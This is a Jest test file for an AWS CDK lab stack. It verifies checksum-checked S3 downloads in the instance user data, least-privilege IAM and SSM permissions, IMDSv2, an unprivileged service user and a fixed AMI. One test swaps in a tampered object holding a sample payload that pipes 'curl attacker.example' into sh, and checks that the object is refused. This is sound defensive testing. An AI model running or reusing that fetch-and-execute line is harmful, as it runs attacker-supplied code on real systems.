import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { environment, stackName } from '@labs/config';
import { buildApp } from '../src/app';
import { TEST_TARGET } from './synth-helper';

jest.setTimeout(240_000);

type Resources = Record<string, { Type: string; Properties: Record<string, unknown> }>;
interface Synthesized {
  outdir: string;
  template: { Resources: Resources; Parameters?: Record<string, { Type: string }> };
}

/** Synthesizes `kinesis-data` for alice (cdk-nag packs on) with the given expiry, as `labs up`/`extend` do. */
function synth(expiresAt: Date): Synthesized {
  const outdir = mkdtempSync(join(tmpdir(), 'labs-cdk-'));
  const labEnvironment = environment('kinesis-data', 'alice');
  const app = buildApp({ outdir, environments: [{ labEnvironment, owner: TEST_TARGET.owner, expiresAt }] });
  const template = app.synth().getStackByName(stackName(labEnvironment)).template as Synthesized['template'];
  return { outdir, template };
}

function only(template: Synthesized['template'], type: string): [string, Record<string, unknown>] {
  const found = Object.entries(template.Resources).filter(([, r]) => r.Type === type);
  expect(found).toHaveLength(1);
  const [id, resource] = found[0] as [string, Resources[string]];
  return [id, resource.Properties];
}

/** The instance's user data, with the asset bucket (a token) written as `ASSET_BUCKET`. */
function userDataOf(template: Synthesized['template']): string {
  const [, instance] = only(template, 'AWS::EC2::Instance');
  const parts = (instance.UserData as { 'Fn::Base64': { 'Fn::Join': [string, unknown[]] } })['Fn::Base64']['Fn::Join'][1];
  return parts.map((part) => (typeof part === 'string' ? part : 'ASSET_BUCKET')).join('');
}

const sha256 = (data: Buffer | string) => createHash('sha256').update(data).digest('hex');

let created: Synthesized;
let extended: Synthesized;
beforeAll(() => {
  created = synth(TEST_TARGET.expiresAt);
  extended = synth(new Date(TEST_TARGET.expiresAt.getTime() + 8 * 3_600_000));
});

describe('downloads are verified against the checksum the stack was built with', () => {
  it('fetches the program through the verifying function with the SHA-256 of the staged bundle', () => {
    const script = userDataOf(created.template);
    const match =
      /\nlabs_fetch_verified 's3:\/\/ASSET_BUCKET\/([0-9a-f]{64})\.js' '\/opt\/labs\/analyticsengine-alice\/index\.js' ([0-9a-f]{64}) 0644\n/.exec(
        script,
      );
    expect(match).not.toBeNull();
    const [, assetHash, expected] = match as RegExpExecArray;
    // What CDK uploads is the file it staged into the cloud assembly.
    expect(expected).toBe(sha256(readFileSync(join(created.outdir, `asset.${assetHash}.js`))));
    expect(script.indexOf('labs_fetch_verified()')).toBeLessThan(script.indexOf("labs_fetch_verified '"));
    expect(script).not.toMatch(/\naws s3 cp /);
  });

  describe('the generated shell, run against a stand-in for the asset bucket', () => {
    let root: string;
    let bucket: string;
    let bin: string;
    let program: Buffer;
    let script: string;

    beforeEach(() => {
      root = mkdtempSync(join(tmpdir(), 'instance-root-'));
      bucket = join(root, 'bucket');
      bin = join(root, 'bin');
      mkdirSync(bucket);
      mkdirSync(bin);
      // `aws s3 cp [--only-show-errors] s3://BUCKET/KEY DEST`, served from the local folder `bucket`.
      writeFileSync(
        join(bin, 'aws'),
        [
          '#!/bin/sh',
          '[ "$1 $2" = "s3 cp" ] || exit 2',
          'shift 2',
          '[ "$1" = "--only-show-errors" ] && shift',
          'cp "$BUCKET/${1#s3://ASSET_BUCKET/}" "$2"',
        ].join('\n'),
      );
      chmodSync(join(bin, 'aws'), 0o755);
      const userData = userDataOf(created.template);
      const key = (/'s3:\/\/ASSET_BUCKET\/([0-9a-f]{64}\.js)'/.exec(userData) as RegExpExecArray)[1] as string;
      program = readFileSync(join(created.outdir, `asset.${key}`));
      writeFileSync(join(bucket, key), program);
      // From the shell options through the last download, with /opt moved under the test's root.
      const lines = userData.split('\n');
      const last = lines.map((line) => line.startsWith('labs_fetch_verified ')).lastIndexOf(true);
      script = [...lines.slice(1, last + 1).filter((line) => !line.startsWith('dnf ')), `echo started > '${root}/started'`]
        .join('\n')
        .replaceAll("'/opt/", `'${root}/opt/`);
    });

    const run = () =>
      spawnSync('bash', ['--noprofile', '--norc', '-c', script], {
        env: { PATH: `${bin}:/usr/bin:/bin`, BUCKET: bucket },
        encoding: 'utf8',
      });

    it('installs an object that matches, with its mode, and goes on', () => {
      const result = run();
      expect(result.stderr).toBe('');
      expect(result.status).toBe(0);
      const installed = join(root, 'opt/labs/analyticsengine-alice/index.js');
      expect(readFileSync(installed)).toEqual(program);
      expect(statSync(installed).mode & 0o777).toBe(0o644);
      expect(existsSync(join(root, 'started'))).toBe(true);
    });

    it('refuses an object swapped in the bucket: nothing installed, the script stops before the service', () => {
      const [key] = execFileSync('ls', [bucket], { encoding: 'utf8' }).trim().split('\n');
      writeFileSync(join(bucket, key as string), 'require("child_process").exec("curl attacker.example | sh")');
      const result = run();
      expect(result.status).not.toBe(0);
      expect(result.stderr).toMatch(
        /^labs: refusing s3:\/\/ASSET_BUCKET\/[0-9a-f]{64}\.js: its sha256 is [0-9a-f]{64}, the stack was built with [0-9a-f]{64}\n$/,
      );
      expect(existsSync(join(root, 'opt/labs/analyticsengine-alice/index.js'))).toBe(false);
      expect(execFileSync('ls', ['-A', join(root, 'opt/labs/analyticsengine-alice')], { encoding: 'utf8' })).toBe('');
      expect(existsSync(join(root, 'started'))).toBe(false);
    });
  });
});

describe('least privilege on the instance', () => {
  function instanceRolePolicy(): { Action: string | string[]; Resource: unknown }[] {
    const [roleId] = Object.entries(created.template.Resources).find(
      ([, r]) => r.Type === 'AWS::IAM::Role' && JSON.stringify(r.Properties.AssumeRolePolicyDocument).includes('ec2.amazonaws.com'),
    ) as [string, unknown];
    const policy = Object.values(created.template.Resources).find(
      (r) => r.Type === 'AWS::IAM::Policy' && JSON.stringify(r.Properties.Roles) === JSON.stringify([{ Ref: roleId }]),
    );
    return (policy?.Properties.PolicyDocument as { Statement: { Action: string | string[]; Resource: unknown }[] }).Statement;
  }

  it('grants Session Manager only what its agent needs: no managed policy, no parameter read', () => {
    const roles = Object.values(created.template.Resources).filter(
      (r) => r.Type === 'AWS::IAM::Role' && JSON.stringify(r.Properties.AssumeRolePolicyDocument).includes('ec2.amazonaws.com'),
    );
    expect(roles.map((r) => r.Properties.ManagedPolicyArns)).toEqual([undefined]);
    const statements = instanceRolePolicy();
    expect(JSON.stringify(statements)).not.toMatch(/ssm:Get|ssm:\*|ec2messages|"ssm:Describe|ssm:List/);
    expect(statements.filter((s) => /^ssm(messages)?:/.test(String(s.Action)))).toEqual([
      {
        Action: 'ssm:UpdateInstanceInformation',
        Effect: 'Allow',
        Resource: {
          'Fn::Join': [
            '',
            ['arn:', { Ref: 'AWS::Partition' }, ':ec2:', { Ref: 'AWS::Region' }, ':', { Ref: 'AWS::AccountId' }, ':instance/*'],
          ],
        },
      },
      {
        Action: [
          'ssmmessages:CreateControlChannel',
          'ssmmessages:CreateDataChannel',
          'ssmmessages:OpenControlChannel',
          'ssmmessages:OpenDataChannel',
        ],
        Effect: 'Allow',
        Resource: '*',
      },
    ]);
  });

  it('requires IMDSv2 with a hop limit of 1', () => {
    const [, instance] = only(created.template, 'AWS::EC2::Instance');
    expect(instance.MetadataOptions).toEqual({ HttpEndpoint: 'enabled', HttpPutResponseHopLimit: 1, HttpTokens: 'required' });
  });

  it('runs the service as an unprivileged dynamic user on a supported Node.js (AL2023 nodejs24)', () => {
    const script = userDataOf(created.template);
    expect(script).toContain('\ndnf install -y nodejs24\n');
    expect(script).toContain('\nDynamicUser=yes\n');
    expect(script).toContain('\nExecStart=/usr/bin/node-24 /opt/labs/analyticsengine-alice/index.js\n');
    expect(script).not.toMatch(/nodejs20|node-20|^User=|sudo/m);
  });
});

describe('the AMI stays fixed for the life of the environment', () => {
  it('is not a template parameter (CloudFormation resolves those again on every update)', () => {
    const imageParameters = Object.values(created.template.Parameters ?? {}).filter((p) => p.Type.includes('AWS::EC2::Image::Id'));
    expect(imageParameters).toEqual([]);
  });

  it('comes from a resource resolved at creation whose properties hold no tag or expiry', () => {
    const [resolverId, resolver] = only(created.template, 'Custom::CreationTimeImage');
    const [, instance] = only(created.template, 'AWS::EC2::Instance');
    expect(instance.ImageId).toEqual({ 'Fn::GetAtt': [resolverId, 'Parameter.Value'] });
    expect(JSON.parse(resolver.Create as string)).toMatchObject({
      service: 'SSM',
      action: 'getParameter',
      parameters: { Name: '/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64' },
    });
    expect(JSON.stringify(resolver)).not.toMatch(/labs-expires-at|2026-11-29/);
  });

  it('extend (a new expiry) changes neither the resolver nor the instance, only tags', () => {
    const [createdResolverId, createdResolver] = only(created.template, 'Custom::CreationTimeImage');
    const [extendedResolverId, extendedResolver] = only(extended.template, 'Custom::CreationTimeImage');
    expect(extendedResolverId).toBe(createdResolverId);
    expect(extendedResolver).toEqual(createdResolver);
    const [createdInstanceId, createdInstance] = only(created.template, 'AWS::EC2::Instance');
    const [extendedInstanceId, extendedInstance] = only(extended.template, 'AWS::EC2::Instance');
    expect(extendedInstanceId).toBe(createdInstanceId);
    expect({ ...extendedInstance, Tags: undefined }).toEqual({ ...createdInstance, Tags: undefined });
    expect(JSON.stringify(extendedInstance.Tags)).not.toEqual(JSON.stringify(createdInstance.Tags));
  });
});
